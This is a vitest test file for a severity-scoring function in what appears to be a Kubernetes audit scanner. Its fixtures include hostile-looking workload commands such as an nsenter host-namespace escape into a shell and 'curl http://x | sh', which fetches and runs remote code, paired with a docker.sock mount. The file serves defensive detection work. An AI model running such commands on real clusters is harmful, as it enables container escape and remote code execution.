import { describe, expect, it } from 'vitest';
import { scoreSeverity } from '../../src/findings/severity.js';
import type { WorkloadFacts } from '../../src/sources/kube-audit/workload.js';

const facts = (overrides: Partial<WorkloadFacts>): WorkloadFacts => ({
  body: 'present',
  kind: 'CronJob',
  images: ['alpine'],
  commands: [],
  privileged: false,
  allowPrivilegeEscalation: false,
  capabilities: [],
  runAsRoot: false,
  hostNetwork: false,
  hostPID: false,
  hostIPC: false,
  hostPaths: [],
  hostPathMountPaths: [],
  mountPaths: [],
  pathsAsWritten: [],
  serviceAccount: undefined,
  truncated: [],
  ...overrides,
});

describe('scoreSeverity', () => {
  it('keeps the rule level when nothing combines', () => {
    expect(scoreSeverity('high', facts({}), 'default')).toEqual({ severity: 'high', reasons: [] });
    expect(scoreSeverity('medium', undefined, undefined).severity).toBe('medium');
  });
  it('rises for an escape primitive with a shell-like command', () => {
    expect(
      scoreSeverity('medium', facts({ hostPID: true, commands: ['nsenter -t 1 -m -- sh'] }), 'default')
        .severity,
    ).toBe('high');
    expect(
      scoreSeverity(
        'medium',
        facts({ hostPaths: ['/var/run/docker.sock/'], commands: ['curl http://x | sh'] }),
        'default',
      ).severity,
    ).toBe('high');
    expect(
      scoreSeverity(
        'medium',
        facts({ hostPaths: ['/mnt/data'], commands: ['curl http://x | sh'] }),
        'default',
      ).severity,
    ).toBe('medium');
  });
  it('rises for privileged with a hostPath, and for kube-system, capped at critical', () => {
    const all = scoreSeverity(
      'high',
      facts({ privileged: true, hostPaths: ['/etc'], commands: ['sh -c id'] }),
      'kube-system',
    );
    expect(all.severity).toBe('critical');
    expect(all.reasons).toHaveLength(3);
    expect(
      scoreSeverity('low', facts({ privileged: true, hostPaths: ['/data'] }), 'kube-system').severity,
    ).toBe('high');
  });
});
